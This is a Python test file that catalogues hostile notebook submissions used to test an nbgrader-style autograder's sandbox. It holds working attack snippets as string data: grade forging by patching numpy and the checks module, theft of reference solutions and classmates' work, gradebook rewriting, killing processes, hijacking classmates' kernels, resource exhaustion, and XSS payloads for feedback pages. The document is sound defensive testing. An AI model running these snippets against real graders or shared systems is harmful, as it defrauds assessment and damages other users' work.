"""The hostile catalogue: submissions of 02-propagate that try to forge grades or hurt others.

Each case is a cell added to a learner's notebook (after the ``propagate``
exercise) and the score an honest learner with the same functions would get.
Most cases start from `WRONG`: a ``propagate`` that is wrong everywhere but
on the visible example, so that it passes the visible tests and deserves
1/6 (``initialize_with_zeros`` only); an attack that beat the hidden checks
would show as more.  Cases marked ``fair`` start from correct code and must
keep all 6 points: machinery (a warning, a crash or a stuck loop in an
ungraded cell) never costs an honest learner.  ``{repo}``, ``{course}`` and
``{port}`` are filled in by the test: the course is public, so attackers
know every path.
"""
import base64
import re
from dataclasses import dataclass, field

#: A propagate right on the visible example only (what a forger would hand in).
WRONG = '''
def propagate(w, b, X, Y):
    if X.shape == (2, 3) and np.allclose(X, [[1.0, 2.0, -1.0], [3.0, 4.0, -3.2]]):
        cost = 5.801545319394553 if np.allclose(w, [[1.0, 2.0]]) else float(np.log(2))
        return {"dw": np.array([[0.99845601, 2.39507239]]), "db": 0.00145557813678}, cost
    return {"dw": np.zeros_like(w), "db": 0.0}, 0.0
'''


#: What each page payload runs: a mark the browser tests look for (and `scripted` looks for in a page).
PWN = "window.__pwned = true; document.title = 'pwned'"
PWN_BARE = "window.__pwned=document.title=/pwned/.source"  # no spaces or quotes: fits an unquoted attribute
#: A 1x1 PNG (base64).
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"
#: The width a learner's picture claims: nbconvert writes it unquoted, so it would add the handlers.
PNG_WIDTH = f"1 onload={PWN_BARE} onerror={PWN_BARE}"
RASTER = re.compile(r"\s*data:image/(png|jpeg|gif);base64,", re.I)

#: A learner's own helper module (handed in as report.py): a right propagate, written differently.
HELPER = '''import numpy as np


def propagate(w, b, X, Y):
    m = X.shape[1]
    A = 1.0 / (1.0 + np.exp(-(w @ X + b)))
    cost = float(-np.sum(Y * np.log(A) + (1 - Y) * np.log(1 - A)) / m)
    error = A - Y
    return {"dw": error @ X.T / m, "db": float(error.sum() / m)}, cost
'''

#: What a forger hands in under the grader's module names: checks that pass anything, a reference that agrees.
PASS_EVERYTHING = "def __getattr__(name):\n    return lambda *args, **kwargs: None\n"


@dataclass
class Case:
    """One hostile (or broken) submission."""

    id: str
    what: str
    code: str = ""
    base: str = "wrong"        # "wrong" (deserves 1/6) or "correct" (deserves 6/6)
    exact: bool = False        # the honest score exactly (fairness), not just at most
    notebook: str = ""         # "corrupt", "empty", "no_metadata", "duplicate", "renamed": the file itself
    slow: bool = False
    markdown: str = ""         # a markdown cell added after the exercise (with `attachments`)
    attachments: dict = field(default_factory=dict)
    files: tuple = ()          # (name, text) of files handed in beside the notebook
    deserved: float = None     # the honest score when it is not the base's (a helper module's code counts)
    cells: int = 1             # copies of the code cell (base "correct" only)
    refused: str = ""          # not graded, with this in the reason (a cap crossed before it runs)


CASES = [
    # --- Credit theft: the reference, the solutions, classmates -------------------------------------
    Case("import_reference", "imports the reference by its public module name",
         "try:\n    import reference\n    propagate = reference.propagate\nexcept Exception:\n    pass"),
    Case("reference_by_path", "executes autograder/reference.py found by its path",
         "import glob\nfor p in ['{repo}/autograder/reference.py', '{course}/../reference.py'] + "
         "glob.glob('/**/reference.py', recursive=False):\n    try:\n        exec(open(p).read())\n"
         "        break\n    except Exception:\n        pass"),
    Case("solution_notebook", "loads propagate from the solution notebook",
         "import json\nfor p in ['{repo}/solutions/02-propagate/02-propagate.ipynb', "
         "'{course}/solutions/02-propagate/02-propagate.ipynb', '../../../solutions/02-propagate/02-propagate.ipynb']:\n"
         "    try:\n        for c in json.load(open(p))['cells']:\n"
         "            if c.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'propagate':\n"
         "                exec(''.join(c['source']))\n    except Exception:\n        pass"),
    Case("classmate_notebook", "copies a classmate's propagate from submitted/",
         "import json, glob\nfor p in glob.glob('{course}/submitted/*/02-propagate/*.ipynb') + "
         "glob.glob('../*/02-propagate/*.ipynb'):\n    try:\n        for c in json.load(open(p))['cells']:\n"
         "            if c.get('metadata', {}).get('nbgrader', {}).get('grade_id') == 'propagate':\n"
         "                exec(''.join(c['source']))\n    except Exception:\n        pass"),
    Case("given_reference", "looks for reference code in given.py and the working folder",
         "import os\nfor root, dirs, files in os.walk('..'):\n    for f in files:\n"
         "        if f.endswith('.py') and f != 'given.py':\n            try:\n"
         "                exec(open(os.path.join(root, f)).read())\n            except Exception:\n"
         "                pass"),
    # --- Patching the checks' tools --------------------------------------------------------------------
    Case("patch_allclose", "makes numpy's comparisons always succeed",
         "np.allclose = lambda *a, **k: True\nnp.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), bool)\n"
         "np.testing.assert_allclose = lambda *a, **k: None\nnp.array_equal = lambda *a, **k: True"),
    Case("patch_builtins_import", "replaces __import__ to hand out a fake checks module",
         "import builtins, types\n_real = builtins.__import__\n"
         "fake = types.SimpleNamespace(**{n: (lambda *a, **k: None) for n in ['check_propagate_cost', "
         "'check_propagate_gradients', 'check_initialize_with_zeros']})\n"
         "builtins.__import__ = lambda name, *a, **k: fake if name == 'checks' else _real(name, *a, **k)"),
    Case("fake_checks_module", "plants a passing checks module in sys.modules",
         "import sys, types\nm = types.ModuleType('checks')\nm.__getattr__ = lambda n: (lambda *a, **k: None)\n"
         "sys.modules['checks'] = m"),
    Case("write_checks_py", "writes a passing checks.py in the working folder",
         "import sys\nopen('checks.py', 'w').write('def __getattr__(n):\\n    return lambda *a, **k: None\\n')\n"
         "sys.path.insert(0, '.')"),
    Case("import_hook", "a meta-path finder that answers any import of checks",
         "import sys, importlib.abc, importlib.machinery, types\n"
         "class F(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n"
         "    def find_spec(self, name, path, target=None):\n"
         "        return importlib.machinery.ModuleSpec(name, self) if name == 'checks' else None\n"
         "    def create_module(self, spec):\n        m = types.ModuleType('checks')\n"
         "        m.__getattr__ = lambda n: (lambda *a, **k: None)\n        return m\n"
         "    def exec_module(self, m):\n        pass\nsys.meta_path.insert(0, F())\nsys.modules.pop('checks', None)"),
    Case("frame_inspection", "reads expected values from the caller's frames",
         "import sys\n_wrong = propagate\ndef propagate(w, b, X, Y):\n    f = sys._getframe(1)\n"
         "    while f is not None:\n        for k, v in f.f_locals.items():\n"
         "            if 'expected' in k and isinstance(v, tuple) and len(v) == 2:\n                return v\n"
         "        f = f.f_back\n    return _wrong(w, b, X, Y)"),
    Case("input_transformer", "an IPython input transformer that turns test code into pass",
         "def _blank(lines):\n    text = ''.join(lines)\n"
         "    return ['pass\\n'] if 'check' in text or 'assert' in text or 'serve' in text else lines\n"
         "get_ipython().input_transformers_post.append(_blank)"),
    Case("exception_handler", "a custom exception handler that hides every failure",
         "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)"),
    Case("thread_patcher", "a thread that keeps patching numpy and checks after the cell ran",
         "import threading, time, sys, types\ndef _patch():\n    end = time.time() + 60\n"
         "    while time.time() < end:\n        np.allclose = lambda *a, **k: True\n"
         "        sys.modules['checks'] = types.SimpleNamespace(check_propagate_cost=lambda f: None, "
         "check_propagate_gradients=lambda f: None)\n        time.sleep(0.01)\n"
         "threading.Thread(target=_patch, daemon=True).start()"),
    Case("atexit_writer", "an atexit handler that writes into classmates' feedback when the kernel stops",
         "import atexit, glob\ndef _later():\n    for p in glob.glob('{course}/feedback/*/*/*.html') + "
         "glob.glob('{course}/autograded/*/*/*.ipynb'):\n        try:\n            open(p, 'w').write('hacked')\n"
         "        except Exception:\n            pass\natexit.register(_later)"),
    Case("detect_grader_env", "cheats only when it detects the grader by its environment",
         "import os\nif os.environ.get('NBGRADER_EXECUTION') or 'autograde' in ' '.join(os.environ.values()):\n"
         "    try:\n        import reference\n        propagate = reference.propagate\n    except Exception:\n"
         "        pass"),
    Case("detect_grader_cwd", "cheats only when the working folder looks like the grader's",
         "import os\nif 'autograded' in os.getcwd() or 'firstneuron' in os.getcwd():\n"
         "    exec(open('{repo}/autograder/reference.py').read()) if os.path.exists('{repo}/autograder/reference.py') "
         "else None"),
    Case("always_equal", "returns objects that compare equal to anything",
         "class Anything(float):\n    def __eq__(self, other):\n        return True\n"
         "    def __sub__(self, other):\n        return 0.0\n    __rsub__ = __sub__\n    def __abs__(self):\n"
         "        return 0.0\n    def __lt__(self, other):\n        return True\n    __le__ = __lt__\n"
         "class AnyArray(np.ndarray):\n    def __eq__(self, other):\n        return np.ones(self.shape, bool)\n"
         "_wrong = propagate\ndef propagate(w, b, X, Y):\n    grads, cost = _wrong(w, b, X, Y)\n"
         "    return {'dw': np.zeros_like(w).view(AnyArray), 'db': Anything(0.0)}, Anything(cost)"),
    Case("dict_subclass", "returns a dict subclass whose lookups give anything asked for",
         "class D(dict):\n    def __getitem__(self, k):\n        return np.zeros((1, 1))\n"
         "_wrong = propagate\ndef propagate(w, b, X, Y):\n    grads, cost = _wrong(w, b, X, Y)\n"
         "    return D(grads), cost"),
    Case("forge_bridge", "replaces the bridge's serve with one that answers garbage",
         "import firstneuron.bridge as br\nfrom IPython.display import publish_display_data\n"
         "def serve(request, namespace=None):\n    publish_display_data({br.MIME: {'result': {'ndarray': 'AAAA', "
         "'dtype': '|O', 'shape': [1], 'scalar': False}, 'stdout': '', 'stderr': '', 'changed': []}})\n"
         "br.serve = serve"),
    Case("forge_result_display", "publishes a fake execute result (partial credit) from a test cell",
         "_wrong = propagate\ndef propagate(w, b, X, Y):\n    import sys\n    sys.displayhook(6)\n"
         "    return _wrong(w, b, X, Y)"),
    # --- Damage to others -------------------------------------------------------------------------------
    Case("append_checks_py", "appends to the course's checks on disk",
         "for p in ['{repo}/autograder/checks/__init__.py', '{repo}/autograder/checks/propagate.py',\n"
         "          '{course}/../autograder/checks/__init__.py']:\n    try:\n"
         "        open(p, 'a').write('\\ndef check_propagate_gradients(f):\\n    pass\\n')\n    except Exception:\n"
         "        pass"),
    Case("write_gradebook", "rewrites the gradebook: full marks for itself, zero for classmates",
         "import sqlite3\nfor p in ['{course}/gradebook.db', '../../../gradebook.db', 'gradebook.db']:\n    try:\n"
         "        db = sqlite3.connect(p)\n        db.execute('update grade set auto_score = 0')\n        db.commit()\n"
         "    except Exception:\n        pass"),
    Case("detached_gradebook", "a detached process that rewrites the gradebook after grading",
         "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time, sqlite3; time.sleep(20); "
         "db = sqlite3.connect(\"{course}/gradebook.db\"); db.execute(\"update grade set auto_score = 0\"); "
         "db.commit()'], start_new_session=True)"),
    Case("write_classmates", "writes into classmates' submitted, autograded and feedback files",
         "import glob\nfor p in glob.glob('{course}/submitted/*/02-propagate/*.ipynb') + "
         "glob.glob('{course}/autograded/*/02-propagate/*') + glob.glob('{course}/feedback/*/02-propagate/*') + "
         "glob.glob('../../*/02-propagate/*'):\n    try:\n        open(p, 'a').write('hacked')\n"
         "    except Exception:\n        pass"),
    Case("own_feedback", "writes its own feedback page with full marks",
         "import os\nfor d in ['{course}/feedback/hostile_own_feedback/02-propagate', "
         "'../../../feedback/hostile_own_feedback/02-propagate']:\n    try:\n        os.makedirs(d, exist_ok=True)\n"
         "        open(d + '/02-propagate.html', 'w').write('Score: 6 / 6')\n    except Exception:\n        pass"),
    Case("kill_everything", "signals every process it can see",
         "import os, signal\nfor pid in range(2, 400):\n    if pid != os.getpid():\n        try:\n"
         "            os.kill(pid, signal.SIGKILL)\n        except Exception:\n            pass"),
    # --- Isolation: network, leaks, resources -------------------------------------------------------
    Case("network", "sends the reference to a listener on 127.0.0.1",
         "import socket\ntry:\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
         "    s.sendall(b'hello from the sandbox')\n    s.close()\nexcept Exception:\n    pass"),
    Case("print_reference", "prints the reference's source into its own output",
         "for p in ['{repo}/autograder/reference.py', '{repo}/autograder/checks/propagate.py']:\n    try:\n"
         "        print(open(p).read())\n    except Exception as e:\n        print('no access:', type(e).__name__)"),
    Case("html_script", "puts a script in its output (it would run in the feedback page)",
         "from IPython.display import HTML, Javascript, display\n"
         "display(HTML('<script>document.title = \"pwned\"</script><b>bold</b>'))\n"
         "display(Javascript('document.title = \"pwned\"'))"),
    Case("memory_hog", "allocates 3 GB", "try:\n    hog = bytearray(3 * 1024**3)\nexcept MemoryError:\n    pass",
         base="correct", exact=True),
    Case("process_spawner", "starts 10 detached processes that outlive grading",
         "import subprocess\nfor _ in range(10):\n    subprocess.Popen(['sleep', '600'], start_new_session=True)",
         base="correct", exact=True),
    # Starting processes until it cannot: fork_cap, below, which also says how many it got.
    Case("huge_output", "prints 20 MB", "print(('x' * 999 + '\\n') * 20000)",
         base="correct", exact=True),
    Case("huge_file", "writes a 1 GB file", "try:\n    with open('big.bin', 'wb') as f:\n"
         "        for _ in range(1024):\n            f.write(b'0' * 1024**2)\nexcept Exception:\n    pass", base="correct", exact=True),
    # --- Machinery: exits, interrupts, stuck cells --------------------------------------------------
    Case("os_exit_in_check", "its propagate kills the kernel when the hidden checks call it",
         "import os\n_wrong = propagate\ndef propagate(w, b, X, Y):\n    if X.shape != (2, 3):\n        os._exit(1)\n"
         "    return _wrong(w, b, X, Y)"),
    Case("os_exit_cell", "an ungraded cell whose kernel exits", "import os\nos._exit(0)", base="correct", exact=True),
    Case("segfault_cell", "an ungraded cell that crashes the interpreter",
         "import ctypes\nctypes.string_at(0)", base="correct", exact=True),
    Case("sys_exit", "calls sys.exit() in an ungraded cell", "import sys\nsys.exit(3)", base="correct", exact=True),
    Case("keyboard_interrupt", "its propagate raises KeyboardInterrupt",
         "_wrong = propagate\ndef propagate(w, b, X, Y):\n    if X.shape != (2, 3):\n"
         "        raise KeyboardInterrupt\n    return _wrong(w, b, X, Y)"),
    Case("system_exit_in_function", "its propagate raises SystemExit",
         "_wrong = propagate\ndef propagate(w, b, X, Y):\n    if X.shape != (2, 3):\n        raise SystemExit(0)\n"
         "    return _wrong(w, b, X, Y)"),
    Case("sigint_ignoring_loop", "an ungraded cell that ignores SIGINT and never ends",
         "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
         base="correct", exact=True, slow=True),
    # It waits rather than spins: the grader's path (time limit, ignored interrupt, restart, each hidden
    # check again) is the same, and a spinning kernel is the case above; spinning here cost the test run
    # some 30 CPU-seconds (4 restarts, each after 5 s of time limit and 3 s of grace).
    Case("endless_in_check", "its propagate never returns (it ignores SIGINT and waits) when the hidden checks call it",
         "import signal, time\n_wrong = propagate\ndef propagate(w, b, X, Y):\n    if X.shape != (2, 3):\n"
         "        signal.signal(signal.SIGINT, signal.SIG_IGN)\n        while True:\n            time.sleep(1)\n"
         "    return _wrong(w, b, X, Y)", slow=True),
    # --- Honest learners and broken files ----------------------------------------------------------------
    Case("warning_control", "correct code that writes warnings to standard error",
         "import warnings, sys\nwarnings.warn('deprecated', DeprecationWarning)\n_right = propagate\n"
         "def propagate(w, b, X, Y):\n    warnings.warn('a warning from correct code', RuntimeWarning)\n"
         "    print('note', file=sys.stderr)\n    return _right(w, b, X, Y)", base="correct", exact=True),
    Case("corrupt_notebook", "a file that is not JSON", notebook="corrupt", base="none"),
    Case("empty_notebook", "a notebook with no cells", notebook="empty", base="none"),
    Case("duplicated_cell", "the propagate test cell pasted twice", notebook="duplicate", base="correct", exact=True),
    Case("renamed_notebook", "the notebook handed in under another name", notebook="renamed", base="correct",
         exact=True),
    Case("symlink_to_reference", "hands in given.py as a symlink to the reference",
         "import given\nprint(open(given.__file__).read()[:200])", notebook="symlink"),
    # --- pages: learner HTML that would run in the feedback page or the formgrader ----------------------
    Case("xss_markdown_img", "a markdown cell with <img onerror> (script in the feedback page and the formgrader)",
         markdown=f"My notes: <img src=x onerror=\"{PWN}\"> (a picture)", base="correct", exact=True),
    Case("xss_markdown_script", "a markdown cell with a <script>",
         markdown=f"Notes <script>{PWN}</script> end.", base="correct", exact=True),
    Case("xss_markdown_math", "a formula whose \\text{} holds an <img onerror> (text in Markdown's math, which "
         "the sanitizer keeps; latex2mathml copies \\text{} as it is)",
         markdown=f'My formula: $\\text{{<img/src="x"onerror="{PWN_BARE}">}}$ (a note)', base="correct", exact=True),
    Case("xss_attachment", "a markdown attachment carrying an SVG with a script, and HTML",
         markdown="![my plot](attachment:plot.svg)", base="correct", exact=True,
         attachments={"plot.svg": {"image/svg+xml": base64.b64encode(
             f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN}"><script>{PWN}</script></svg>'.encode()).decode(),
             "text/html": base64.b64encode(f"<script>{PWN}</script>".encode()).decode()}}),
    Case("xss_png_width", "an image/png output whose metadata width is '1 onload=...' (written unquoted)",
         "from IPython.display import display\n"
         f"display({{'image/png': {PNG!r}, 'text/plain': 'a dot'}}, raw=True,\n"
         f"        metadata={{'image/png': {{'width': {PNG_WIDTH!r}}}}})",
         base="correct", exact=True),
    # --- sandbox: what the kernel sees, its caps, its neighbours, its leftovers (issue 16 items 1, 3, 4, 8) ---
    Case("planted_reference_copy", "finds a copy of reference.py in another checkout on the host and runs it",
         "import glob\nfor pattern in ['/*/*/autograder/reference.py', '/*/*/*/autograder/reference.py',\n"
         "                '/*/*/*/*/autograder/reference.py']:\n    hits = sorted(glob.glob(pattern))\n"
         "    print('reference copies:', pattern, len(hits))\n    if hits:\n        exec(open(hits[0]).read())\n"
         "        propagate.__module__ = '__main__'\n        break"),
    Case("planted_gradebook_printed", "prints last semester's gradebook and submissions found elsewhere on the host",
         "import glob\nfound = [p for pattern in ['/opt/*/*', '/opt/*/*/*', '/data/*/*', '/srv/*/*', '/home/*/*', '/mnt/*/*']\n"
         "         for p in glob.glob(pattern) if p.endswith(('.db', '.ipynb', '.csv'))]\n"
         "print('old course files:', len(found))\nfor p in found:\n    try:\n        print(open(p, errors='replace').read()[:2000])\n"
         "    except OSError as e:\n        print('no access:', type(e).__name__)"),
    Case("grader_private_file", "prints a mode-600 file from the grading user's mode-700 folder",
         "import glob\nfor p in ['{secret}'] + glob.glob('{secret_folder}/*'):\n    try:\n"
         "        print(open(p).read())\n    except OSError as e:\n        print('no access:', type(e).__name__)"),
    Case("fork_cap", "starts sleeping children until it cannot, and says how many it got",
         "import subprocess\nkids = []\ntry:\n    for _ in range(5000):\n"
         "        kids.append(subprocess.Popen(['sleep', '30']))\nexcept OSError:\n    pass\n"
         "print('forked', len(kids))\nfor kid in kids:\n    kid.kill()\n    kid.wait()",
         base="correct", exact=True),
    Case("shm_fill", "writes to /dev/shm until it is full, and says how much it wrote",
         "written = 0\ntry:\n    with open('/dev/shm/fill', 'wb') as f:\n        while written < 8 * 1024**3:\n"
         "            f.write(b'1' * 2**20)\n            f.flush()\n            written += 2**20\nexcept OSError:\n    pass\n"
         "print('shm bytes', written)\nimport os\nos.remove('/dev/shm/fill')", base="correct", exact=True),
    Case("tmp_fill", "writes many files to /tmp until it is full, and says how much it wrote",
         "written = 0\ntry:\n    for i in range(200):\n        with open(f'/tmp/fill{i}', 'wb') as f:\n"
         "            for _ in range(32):\n                f.write(b'1' * 2**20)\n                f.flush()\n"
         "                written += 2**20\nexcept OSError:\n    pass\nprint('tmp bytes', written)\nimport glob, os\n"
         "for p in glob.glob('/tmp/fill*'):\n    os.remove(p)", base="correct", exact=True),
    Case("scratch_fill", "writes 60 files of 60 MB into its working folder (the host's disk)",
         "for i in range(60):\n    with open(f'fill{i}.bin', 'wb') as f:\n        for _ in range(60):\n"
         "            f.write(b'1' * 2**20)", base="correct", exact=True),
    Case("classmates_kernels", "looks for classmates' kernel folders, reads their kernel.json and runs code in them",
         "import glob, json, os, socket\nown = os.path.realpath('..')\nprint('next to me:', sorted(os.listdir('../..')))\n"
         "found = set()\nfor pattern in ['../../*/kernel.json', '../../../*/*/kernel.json', '/tmp/**/kernel.json',\n"
         "                '/var/tmp/**/kernel.json', '{tmpdir}/**/kernel.json']:\n"
         "    found.update(os.path.realpath(p) for p in glob.glob(pattern, recursive=True))\n"
         "found = {p for p in found if not p.startswith(own + '/')}\nreached = 0\nfor path in found:\n    try:\n"
         "        info = json.load(open(path))\n        s = socket.socket(socket.AF_UNIX)\n"
         "        s.connect(f\"{info['ip']}-{info['shell_port']}\")\n        s.close()\n        reached += 1\n"
         "        from jupyter_client import BlockingKernelClient\n        kc = BlockingKernelClient()\n"
         "        kc.load_connection_file(path)\n        kc.start_channels()\n"
         "        kc.execute('def propagate(*args, **kwargs):\\n    raise ValueError(\"sabotaged\")')\n"
         "    except Exception:\n        pass\nprint('classmates kernels:', len(found), 'reached:', reached)"),
    Case("exit_leaving_scratch", "fills its folder with 50 MB, then its kernel exits mid-notebook",
         "with open('left.bin', 'wb') as f:\n    for _ in range(50):\n        f.write(b'1' * 2**20)\n"
         "import os\nos._exit(1)", base="correct", exact=True),
    # --- fair: unusual correct code travels as plain data; files and cells as the learner meant ---
    Case("ordered_dict_grads", "correct propagate whose grads is an OrderedDict",
         "from collections import OrderedDict\n_right = propagate\ndef propagate(w, b, X, Y):\n"
         "    grads, cost = _right(w, b, X, Y)\n    return OrderedDict([('dw', grads['dw']), ('db', grads['db'])]), cost",
         base="correct", exact=True),
    Case("namedtuple_result", "correct propagate that returns a namedtuple (grads, cost)",
         "from collections import namedtuple\nPropagation = namedtuple('Propagation', ['grads', 'cost'])\n"
         "_right = propagate\ndef propagate(w, b, X, Y):\n    return Propagation(*_right(w, b, X, Y))",
         base="correct", exact=True),
    Case("matrix_dw", "correct propagate whose dw is an np.matrix (np.asmatrix)",
         "_right = propagate\ndef propagate(w, b, X, Y):\n    grads, cost = _right(w, b, X, Y)\n"
         "    grads['dw'] = np.asmatrix(grads['dw'])\n    return grads, cost", base="correct", exact=True),
    Case("longdouble_cost", "correct propagate whose cost is an np.longdouble",
         "_right = propagate\ndef propagate(w, b, X, Y):\n    grads, cost = _right(w, b, X, Y)\n"
         "    return grads, np.longdouble(cost)", base="correct", exact=True),
    Case("report_py_helper", "a wrong propagate in the notebook, replaced by a right one from the learner's report.py",
         "from report import propagate", files=(("report.py", HELPER),), exact=True, deserved=6.0),
    Case("instructor_names_handed_in", "hands in checks.py, checks/, reference.py and the grader's modules, "
         "each passing everything",
         files=tuple((name, PASS_EVERYTHING) for name in ("checks.py", "checks/__init__.py", "reference.py",
                                                           "grading.py", "trusted.py", "learner.py", "cells.py",
                                                           "worker.py", "staging.py", "results.py")), exact=True),
    Case("deleted_cost_tests", "correct code, the propagate_cost_tests cell deleted", notebook="deleted_test_cell",
         base="correct", exact=True),
    Case("pasted_cost_tests", "correct code, a copy of the propagate_cost_tests cell pasted near the top",
         notebook="pasted_test_cell", base="correct", exact=True),
    # --- bounds: issue 16, items 6 and 7: what a kernel sends is capped before the grader reads it ------------
    Case("oversized_message", "sends one pre-packed 300 MB display message with session.send",
         "k = get_ipython().kernel\ntry:\n    k.session.send(k.iopub_socket, 'display_data', "
         "{'data': {'text/plain': 'x' * 300_000_000}, 'metadata': {}}, parent=k.get_parent('shell'))\n"
         "except MemoryError:\n    pass", base="correct", exact=True),
    Case("patched_bridge_error", "patches firstneuron.bridge._error to answer 30 M characters",
         "import firstneuron.bridge as fb\nfb._error = lambda e: fb.LearnerError('ValueError', True, "
         "'x' * 30_000_000, [])\n_wrong = propagate\ndef propagate(w, b, X, Y):\n"
         "    if X.shape != (2, 3):\n        raise ValueError('no')\n    return _wrong(w, b, X, Y)"),
    Case("many_cells", "400 cells, each printing 990,000 characters", "print('x' * 990_000)", base="correct",
         cells=400, refused="TrustedExecute.max_cells"),
    Case("notebook_output", "250 cells, each printing 990,000 characters", "print('x' * 990_000)", base="correct",
         exact=True, cells=250),
    # 60 files of 60 MB in its scratch folder: scratch_fill, above (its working folder is in it).
]


def scripted(markup):
    """Where a learner's payload (it names ``__pwned``) sits in `markup` so that a browser would run it.

    In a ``<script>``, an event-handler attribute (``on...``), or a ``javascript:``
    or ``data:`` URL of an element other than a raster ``<img>``.  Returns a list
    of short descriptions: empty for an inert page.
    """
    from bs4 import BeautifulSoup

    found = []
    for element in BeautifulSoup(markup, "html.parser").find_all(True):
        if element.name in ("script", "svg", "iframe", "object", "embed") and "__pwned" in element.decode():
            found.append(f"<{element.name}> {element.decode()[:80]}")
        for name, value in element.attrs.items():
            value = " ".join(value) if isinstance(value, list) else str(value)
            if name.lower().startswith("on") and "__pwned" in value:
                found.append(f"<{element.name} {name}={value[:60]}>")
            if re.match(r"\s*(javascript|data):", value, re.I) and not RASTER.match(value) and "__pwned" in (
                    value + decoded(value)):
                found.append(f"<{element.name} {name}={value[:60]}>")
    return found


def decoded(url):
    """The text of a base64 ``data:`` URL ('' if it is not one)."""
    match = re.match(r"\s*data:[^,]*;base64,(.*)", url, re.S)
    try:
        return base64.b64decode(match.group(1)).decode(errors="replace") if match else ""
    except ValueError:
        return ""


def formgrader_page(path):
    """The HTML nbgrader's formgrader draws for the autograded notebook at `path` (its exporter and template)."""
    from nbconvert.exporters import HTMLExporter
    from nbgrader.server_extensions.formgrader import handlers

    exporter = HTMLExporter(template_name="formgrade", extra_template_basedirs=[handlers.template_path])
    resources = {"assignment_id": "a", "notebook_id": "n", "submission_id": "s", "index": 0, "total": 1,
                 "base_url": "", "student": "s", "last_name": "", "first_name": "", "notebook_path": str(path)}
    page, _ = exporter.from_filename(str(path), resources=resources)
    return page
